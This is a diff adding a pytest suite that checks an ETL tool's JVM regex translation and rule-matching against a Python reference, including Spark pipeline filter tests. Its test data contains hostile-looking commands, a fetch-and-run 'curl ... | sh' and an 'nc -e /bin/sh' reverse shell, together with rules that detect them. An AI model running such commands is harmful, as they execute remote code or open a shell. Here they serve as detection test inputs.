@@ -1,0 +1,208 @@
+"""The JVM rule path (etl/jvm/RuleMatch.java): java.util.regex translations that find a match exactly where
+Python's re.search does, rule sets decided in the JVM exactly as the reference interpreter decides them, and
+pipelines whose filters run without a Python worker."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from etl.optimize import compile_rules
+from etl.optimize.javaregex import Unsupported, translate
+from etl.optimize.jvmprogram import jvm_plan
+from etl.optimize.reference import matched_rules
+from etl.spec.rules import Rule
+from tests.optimize.strategies import ALPHABET, like_patterns, literals, regexes, texts
+from tests.spark.helpers import checked, run_events
+
+pytestmark = pytest.mark.spark
+
+WIDE = "\U0001d400\U0001d41a\U0001f600"  # a bold A and a (word characters), a smiley (not one)
+wide_texts = st.one_of(texts, st.text(alphabet=ALPHABET + WIDE, max_size=8))
+wide_regexes = st.one_of(regexes, st.sampled_from([
+    "\\b\U0001d400", "\U0001d400\\b", "(?<=\U0001d400)a", "(?<![\U0001d400-\U0001d433])a", "(?<=\\w)a",
+    "(?<!\\w)a", "\\Ba", "a\\B", "[^\\w]a", ".a", "(?i)\U0001d400", "[\U0001d400-\U0001f600]+", "\\W\\b",
+]))
+
+TRICKY_TEXTS = ["", "a", "\n", "a\n", "a\n\n", "k", "K", "\u212a", "\u017f", "S", "\u0130", "\u0131", "i", "I",
+                "\u03c3\u03c2\u03a3", "\u0663", "x\u2028y", "x\u0085y", "x\ry", "\U0001d400a", "\U0001d400 a",
+                " \U0001d400 ", "\U0001f600a", "curl x | sh", "ab\n", " a  b "]
+MUST_TRANSLATE = ["\\bk\\b", "(?i)k", "(?i)s", "(?i)i", "(?i)\u03c3", "a$", "^a", "(?m)^a", "(?m)a$", "(?m)^$",
+                  "\\Z", "a\\Z", "\\s+", "\\S", "\\d", "\\w+\\b", "(?a)\\w", "(?a)\\bk", ".", "(?s).", "[^a]",
+                  "(?i)[^k]", "\\Ba", "(?<=\\w)a", "(?<!a)b", "a(?=b)", "(?i:k)s", "x{2,5}?", "(?i)\u00e9",
+                  "\\b\U0001d400", "(?<=\U0001d400)a", "curl .*\\| *sh", "", "a*", "\\b"]
+
+
+def jfind(spark, regex: str, text: str) -> bool:
+    return bool(spark.sparkContext._jvm.etl.jvm.RuleMatch.find(regex, text))
+
+
+def test_patterns_that_must_translate_find_what_python_finds(spark):
+    for rx in MUST_TRANSLATE:
+        t = translate(rx)
+        for s in TRICKY_TEXTS:
+            want = re.search(rx, s) is not None
+            assert jfind(spark, t.unicode, s) == want, (rx, s, t.unicode)
+            if s.isascii():
+                assert jfind(spark, t.ascii, s) == want, (rx, s, t.ascii)
+
+
+def test_constructs_left_to_python_are_named():
+    for rx, why in [("(a)\\1", "a backreference"), ("(a)?(?(1)b|c)", "a conditional group"),
+                    ("(?>a+)b", "an atomic group"), ("a++", "a possessive repeat"),
+                    ("x{2,200000}", "a repeat count above 100000")]:
+        with pytest.raises(Unsupported, match=re.escape(why)):
+            translate(rx)
+
+
+@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(rx=wide_regexes, ss=st.lists(wide_texts, min_size=1, max_size=6))
+def test_translation_finds_what_python_finds(spark, rx, ss):
+    try:
+        t = translate(rx)
+    except (Unsupported, re.error):
+        return
+    for s in ss:
+        want = re.search(rx, s) is not None
+        assert jfind(spark, t.unicode, s) == want, (rx, s, t.unicode)
+        if s.isascii():
+            assert jfind(spark, t.ascii, s) == want, (rx, s, t.ascii)
+
+
+@st.composite
+def cmd_predicates(draw) -> dict:
+    kind = draw(st.sampled_from(["regex", "regex", "like", "contains", "starts_with", "ends_with"]))
+    value = draw(regexes if kind == "regex" else like_patterns if kind == "like" else literals)
+    p = {"field": "cmd", kind: value}
+    if draw(st.booleans()):
+        p["caseless"] = True
+    return p
+
+
+cmd_trees = st.recursive(
+    cmd_predicates(),
+    lambda children: st.one_of(
+        st.lists(children, min_size=1, max_size=3).map(lambda xs: {"all": xs}),
+        st.lists(children, min_size=1, max_size=3).map(lambda xs: {"any": xs}),
+        children.map(lambda c: {"not": c}),
+    ),
+    max_leaves=4,
+)
+
+
+def decide(spark, program, values: list, tag: bool, candidate: bool = False) -> list:
+    from pyspark.sql import functions as F
+
+    from etl.compile.prefilter import prefilter_condition
+    from etl.compile.rules_jvm import verdict
+
+    df = spark.createDataFrame([(v,) for v in values], "cmd string").coalesce(1)
+    cond = prefilter_condition(program, df) if candidate else None
+    col = verdict(program, df, tag, cond)
+    assert col is not None
+    return [r[0] for r in df.select(F.monotonically_increasing_id().alias("i"), col.alias("v")).orderBy("i")
+            .select("v").collect()]
+
+
+@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(whens=st.lists(cmd_trees, min_size=1, max_size=4), values=st.lists(st.one_of(st.none(), wide_texts),
+                                                                            min_size=1, max_size=8))
+def test_rule_sets_decided_in_the_jvm_equal_the_reference(spark, whens, values):
+    try:
+        rules = [Rule.model_validate({"id": f"r{i}", "when": w}) for i, w in enumerate(whens)]
+    except ValueError:
+        return
+    program = compile_rules(rules)
+    if jvm_plan(program).body is None:
+        return
+    want = [matched_rules(rules, {"cmd": v}) for v in values]
+    assert [list(x) for x in decide(spark, program, values, tag=True)] == want
+    assert decide(spark, program, values, tag=False) == [bool(w) for w in want]
+
+
+def test_many_rules_with_the_prefilter_equal_the_reference(spark):
+    import random
+    import sys
+    from pathlib import Path
+
+    sys.path.insert(0, str(Path(__file__).resolve().parents[2] / "bench"))
+    from _gen import make_events, make_rules
+
+    rules = make_rules(300, 11)
+    program = compile_rules(rules)
+    assert jvm_plan(program).body is not None
+    values = [e["cmd"] for e in make_events(3000, 11)]
+    rnd = random.Random(3)
+    values += [v.replace("a", "\u00e4", 1) for v in rnd.sample(values, 200)]  # non-ASCII rows
+    values += [v.upper() for v in rnd.sample(values, 200)] + [None, ""]
+    want = [matched_rules(rules, {"cmd": v}) for v in values]
+    assert sum(1 for w in want if w) >= 40  # the sample exercises matches, not only misses
+    assert [list(x) for x in decide(spark, program, values, tag=True, candidate=True)] == want
+
+
+def test_program_outside_the_jvm_path_says_why():
+    rules = [Rule.model_validate({"id": "a", "when": {"field": "cmd", "regex": "(a)\\1"}}),
+             Rule.model_validate({"id": "b", "when": {"field": "code", "eq": 3}})]
+    assert jvm_plan(compile_rules(rules[:1])).reason == "pattern '(a)\\\\1' has a backreference"
+    assert "native predicates" in jvm_plan(compile_rules(rules)).reason
+    two = [Rule.model_validate({"id": "a", "when": {"field": "cmd", "regex": "x"}}),
+           Rule.model_validate({"id": "b", "when": {"field": "user", "regex": "y"}})]
+    assert jvm_plan(compile_rules(two)).reason == "patterns read several fields (cmd, user)"
+
+
+PIPELINE = """
+    name: t-rules-jvm
+    sources: [{id: src, type: file, path: ., format: jsonl, schema: {cmd: string, code: bigint}}]
+    transforms:
+      - {id: kept, type: filter, input: src, rules: [{id: sh, when: {field: cmd, regex: '\\bsh\\b'}},
+                                                    {id: nc, when: {field: cmd, contains: 'nc -e'}}]}
+      - {id: dropped, type: filter, input: src, mode: drop,
+         rules: [{id: ls, when: {field: cmd, starts_with: ls}}]}
+      - {id: tagged, type: filter, input: src, mode: tag,
+         rules: [{id: curl, when: {field: cmd, regex: '^curl', caseless: true}},
+                 {id: sh, when: {any: [{field: cmd, regex: '\\| *sh$'}, {field: cmd, ends_with: '.sh'}]}},
+                 {id: not_ls, when: {not: {field: cmd, starts_with: ls}}}]}
+    sinks:
+      - {id: o1, type: file, input: kept, path: o1}
+      - {id: o2, type: file, input: dropped, path: o2}
+      - {id: o3, type: file, input: tagged, path: o3}
+"""
+
+EVENTS = [
+    {"cmd": "curl http://x/a.sh | sh", "code": 200},
+    {"cmd": "nc -e /bin/sh host 4444", "code": 503},
+    {"cmd": "ls -la", "code": 404},
+    {"cmd": "CURL http://\u00e9/b.sh", "code": 1},
+    {"cmd": None, "code": 500},
+]
+
+
+@pytest.mark.parametrize("path", ["jvm", "python"])
+def test_pipeline_filters_on_either_path(spark, tmp_path, monkeypatch, path):
+    if path == "python":
+        monkeypatch.setenv("ETL_RULES_JVM", "off")
+    out = run_events(spark, tmp_path, PIPELINE, {"src": EVENTS})
+    assert sorted(r["code"] for r in out["o1"]) == [1, 200, 503]  # \bsh\b: "b.sh" too
+    assert sorted(r["code"] for r in out["o2"]) == [1, 200, 500, 503]
+    assert sorted((r["code"], r["matched_rules"]) for r in out["o3"]) == [
+        (1, ["curl", "sh", "not_ls"]), (200, ["curl", "sh", "not_ls"]), (404, []), (500, ["not_ls"]),
+        (503, ["not_ls"])]
+
+
+@pytest.mark.parametrize("path", ["jvm", "python"])
+def test_the_plan_runs_python_only_off_the_jvm_path(spark, tmp_path, monkeypatch, path):
+    from etl.compile import CompileContext, Compiler
+
+    if path == "python":
+        monkeypatch.setenv("ETL_RULES_JVM", "off")
+    c = checked(tmp_path, PIPELINE)
+    ctx = CompileContext(spark, c.plan.graph, str(tmp_path / "ck"), {"plan": c.plan})
+    df = spark.createDataFrame([(e["cmd"], e["code"]) for e in EVENTS], "cmd string, code bigint")
+    for node in ("kept", "dropped", "tagged"):
+        text = Compiler(ctx)._call(c.plan.graph.node(node), [df]).out._jdf.queryExecution().executedPlan().toString()
+        python = "ArrowEvalPython" in text or "MapInArrow" in text  # off the JVM path the siblings share a pass
+        assert python == (path == "python"), text
+        assert ("RuleMatch" in text) == (path == "jvm"), text
